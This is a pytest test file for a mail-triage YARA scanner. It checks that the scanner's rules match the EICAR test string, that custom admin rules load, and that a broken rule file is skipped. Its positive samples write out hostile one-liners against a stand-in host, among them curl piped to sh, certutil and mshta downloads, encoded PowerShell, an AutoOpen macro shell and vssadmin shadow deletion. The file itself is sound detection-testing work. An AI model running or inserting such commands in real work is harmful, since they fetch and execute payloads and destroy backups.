"""yara analyzer: shipped rules (positive and negative samples), admin rules,
broken admin files, rule metadata -> findings."""

from __future__ import annotations

import base64
import logging
import time
from pathlib import Path

import pytest

from mailvm.config import TriageConfig
from mailvm.extract.spool import detect_type
from mailvm.triage import Triage, yarascan
from mailvm.verdict import Artifact

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def art(path: Path, name: str | None = None) -> Artifact:
    mime, desc = detect_type(path)
    return Artifact("0" * 64, name or path.name, path.stat().st_size, mime, str(path), ("test",), desc)


@pytest.fixture(scope="module")
def state(tmp_path_factory) -> yarascan.YaraState:
    return yarascan.setup(TriageConfig(yara_rules_dir=str(tmp_path_factory.mktemp("noyara") / "absent")))


def scan_ids(state, data: bytes, name: str = "sample") -> dict[str, int]:
    return {f.id: f.severity for f in yarascan.scan(state, data, name)}


def test_shipped_rules_compile_fast(tmp_path):
    t0 = time.monotonic()
    st = yarascan.setup(TriageConfig(yara_rules_dir=str(tmp_path / "absent")))
    assert time.monotonic() - t0 < 5  # generous: normally milliseconds
    assert {Path(p).name for p in st.shipped} >= {"eicar.yar", "maldoc.yar", "pe.yar", "script.yar", "html.yar"}
    assert st.admin == () and st.skipped == ()


def test_eicar(state):
    assert scan_ids(state, EICAR) == {"eicar": 10}
    assert scan_ids(state, EICAR + b"\r\n   ") == {"eicar": 10}  # trailing whitespace allowed
    assert "eicar" not in scan_ids(state, b"x" + EICAR)  # must start the file
    assert "eicar" not in scan_ids(state, EICAR + b"A" * 100)  # at most 128 bytes


def test_eicar_corpus_file(state, corpus):
    assert scan_ids(state, (corpus / "eicar/eicar.com").read_bytes()) == {"eicar": 10}


POSITIVE = {
    "maldoc_autoexec_shell": b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n  Shell("cmd.exe /c calc")\r\nEnd Sub\r\n',
    "maldoc_download_exec": b'Attribute VB_Name = "M"\r\nx = URLDownloadToFile(0, "http://e.test/a.exe", "a.exe", 0, 0)\r\n',
    "powershell_encoded_command": b"powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\r\n",
    "powershell_base64_exec": b"$s=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)); IEX $s",
    "js_eval_base64": b"var p='YWxlcnQoMSk='; eval(atob(p));",
    "wscript_shell_exec": b'var sh = new ActiveXObject("WScript.Shell"); sh.Run("calc.exe", 0);',
    "certutil_abuse": b"certutil -urlcache -split -f http://e.test/x.exe x.exe\r\n",
    "mshta_remote": b"mshta https://e.test/payload.hta\r\n",
    "shell_download_pipe": b"curl -fsSL http://e.test/install.sh | sh\n",
    "shadow_copy_deletion": b"vssadmin.exe delete shadows /all /quiet",
    "html_smuggling_blob": (b"<script>var d=atob('UEsDBAo=');var b=new Blob([d],{type:'application/zip'});"
                            b"var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='x.zip';a.click();</script>"),
}
NEGATIVE = {
    "maldoc_autoexec_shell": b'Attribute VB_Name = "Module1"\r\nSub AutoOpen()\r\n  MsgBox "hello"\r\nEnd Sub\r\n',
    "maldoc_download_exec": b"Sub Foo()\r\nx = 1\r\nEnd Sub\r\n",
    "powershell_encoded_command": b"powershell.exe -NoProfile -File build.ps1\r\n",
    "powershell_base64_exec": b"$bytes = [Convert]::FromBase64String($b); Set-Content out.bin $bytes",
    "js_eval_base64": b"var t = atob(s); console.log(t);",
    "wscript_shell_exec": b'WScript.Echo("WScript.Shell is documented here");',
    "certutil_abuse": b"certutil -hashfile setup.msi SHA256\r\n",
    "mshta_remote": b"rem mshta is disabled by policy\r\n",
    "shell_download_pipe": b"curl -fsSL -o install.sh http://e.test/install.sh\nless install.sh\n",
    "shadow_copy_deletion": b"vssadmin list shadows",
    "html_smuggling_blob": b"<script>var b=new Blob(['hello'],{type:'text/plain'});console.log(b.size);</script>",
}


@pytest.mark.parametrize("rule_id", sorted(POSITIVE))
def test_shipped_rule_fires_on_positive_and_not_on_negative(state, rule_id):
    assert rule_id in scan_ids(state, POSITIVE[rule_id]), rule_id
    assert rule_id not in scan_ids(state, NEGATIVE[rule_id]), rule_id


def test_utf16_script_is_matched(state):
    assert "mshta_remote" in scan_ids(state, "mshta https://e.test/a.hta".encode("utf-16-le"))


def test_activex_control_in_ole(state):
    flash_clsid = bytes.fromhex("6EDB7CD26DAECF1196B8444553540000")
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512 + flash_clsid
    assert scan_ids(state, ole).get("maldoc_activex_control") == 5
    assert "maldoc_activex_control" not in scan_ids(state, b"\x00" * 16 + flash_clsid)


def test_admin_rules_loaded_and_broken_file_skipped(tmp_path, caplog):
    d = tmp_path / "yara"
    d.mkdir()
    (d / "good.yar").write_text(
        'rule Acme_Invoice_Dropper { meta: id = "acme_dropper" severity = 9 description = "local intel" '
        'strings: $a = "ACME-DROPPER-MARKER" condition: $a }\n')
    (d / "plain.yara").write_text('rule No_Meta_Rule { strings: $a = "PLAIN-MARKER" condition: $a }\n')
    (d / "byname.yar").write_text('rule Name_Rule { meta: severity = 3 condition: extension == "xlsb" and kind == "office" }\n')
    (d / "broken.yar").write_text("rule broken { condition: $undefined }\n")
    (d / "notes.txt").write_text("not a rule file")
    with caplog.at_level(logging.ERROR, logger="mailvm.triage.yarascan"):
        st = yarascan.setup(TriageConfig(yara_rules_dir=str(d)))
    assert [Path(p).name for p in st.skipped] == ["broken.yar"]
    assert sorted(Path(p).name for p in st.admin) == ["byname.yar", "good.yar", "plain.yara"]
    assert "broken.yar" in caplog.text
    found = {f.id: f for f in yarascan.scan(st, b"xx ACME-DROPPER-MARKER PLAIN-MARKER", "a.bin", "unknown")}
    assert found["acme_dropper"].severity == 9 and "admin rule" in found["acme_dropper"].detail
    assert found["yara_no_meta_rule"].severity == yarascan.ADMIN_DEFAULT_SEVERITY
    assert "yara_name_rule" in {f.id for f in yarascan.scan(st, b"x", "book.xlsb", "office")}
    assert "yara_name_rule" not in {f.id for f in yarascan.scan(st, b"x", "book.xlsx", "office")}
    assert yarascan.scan(st, EICAR)[0].id == "eicar"  # shipped rules still there


def test_triage_uses_admin_rules(tmp_path):
    d = tmp_path / "yara"
    d.mkdir()
    (d / "local.yar").write_text('rule local { meta: id = "local_marker" severity = 8 strings: $a = "LOCAL-MARKER-42" condition: $a }')
    p = tmp_path / "notes.txt"
    p.write_bytes(b"hello LOCAL-MARKER-42 world")
    r = Triage(TriageConfig(yara_rules_dir=str(d))).analyze(art(p))
    assert r.verdict == "malicious" and {f.id for f in r.findings} == {"local_marker"}


def test_base64_of_eicar_is_not_eicar(state):
    assert "eicar" not in scan_ids(state, base64.b64encode(EICAR))
